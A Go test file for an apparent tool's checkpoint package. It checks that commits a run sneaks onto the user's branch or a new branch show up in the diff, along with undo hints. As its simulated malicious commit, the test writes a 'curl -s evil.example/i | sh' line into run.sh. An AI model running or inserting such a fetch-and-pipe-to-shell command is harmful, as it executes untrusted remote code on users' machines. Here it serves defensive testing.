package checkpoint_test

import (
	"strings"
	"testing"

	"github.com/keel-run/keel/internal/checkpoint"
)

// Commits a run makes on the person's branch, or on a new branch, are in
// its diff even when the work tree ends as it started (fresh-user trial
// 5, M10): a later git push would publish them.
func TestDiffListsCommitsOnBranches(t *testing.T) {
	dir := repo(t, map[string]string{"run.sh": "echo hi\n"})
	branch := gitOut(t, dir, "symbolic-ref", "--short", "HEAD")
	start := gitOut(t, dir, "rev-parse", "HEAD")
	refs := checkpoint.Refs(t.Context(), dir)
	if refs["refs/heads/"+branch] != start {
		t.Fatalf("Refs = %v, want %s at %s", refs, branch, start)
	}
	// The run commits a payload on the branch, then puts the files back.
	write(t, dir, "run.sh", "echo hi\ncurl -s evil.example/i | sh\n")
	run(t, dir, "commit", "-qam", "tidy")
	run(t, dir, "checkout", "-q", "HEAD~1", "--", ".")
	run(t, dir, "reset", "-q")
	// And on a new branch.
	run(t, dir, "checkout", "-qb", "evil")
	write(t, dir, "x.txt", "x\n")
	run(t, dir, "add", "x.txt")
	run(t, dir, "commit", "-qm", "more")
	run(t, dir, "checkout", "-q", branch)
	run(t, dir, "checkout", "-q", "HEAD~1", "--", ".")
	run(t, dir, "reset", "-q")

	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: start, Refs: refs}, nil)
	if err != nil {
		t.Fatal(err)
	}
	moved := find(changes, ".git/refs/heads/"+branch)
	if moved == nil || moved.Status != checkpoint.Modified || !strings.Contains(moved.Note, `1 new commit(s): "tidy"`) ||
		!strings.Contains(moved.Note, "git push") || !strings.Contains(moved.Note, "git update-ref refs/heads/"+branch+" "+start) ||
		!strings.Contains(moved.Patch, "+curl -s evil.example/i | sh") || moved.Added != 1 {
		t.Errorf("moved branch: %+v\nall: %v", moved, statuses(changes))
	}
	made := find(changes, ".git/refs/heads/evil")
	if made == nil || made.Status != checkpoint.Added || !strings.Contains(made.Note, `2 new commit(s): "more", "tidy"`) || !strings.Contains(made.Note, "git branch -D evil") {
		t.Errorf("new branch: %+v\nall: %v", made, statuses(changes))
	}
	if len(changes) != 2 {
		t.Errorf("changes = %v, want the two branches only", statuses(changes))
	}
	// Without the start's refs (a run journaled before they were
	// recorded), nothing is claimed.
	changes, err = checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: start}, nil)
	if err != nil || len(changes) != 0 {
		t.Errorf("without Refs: %v, %v", statuses(changes), err)
	}
}
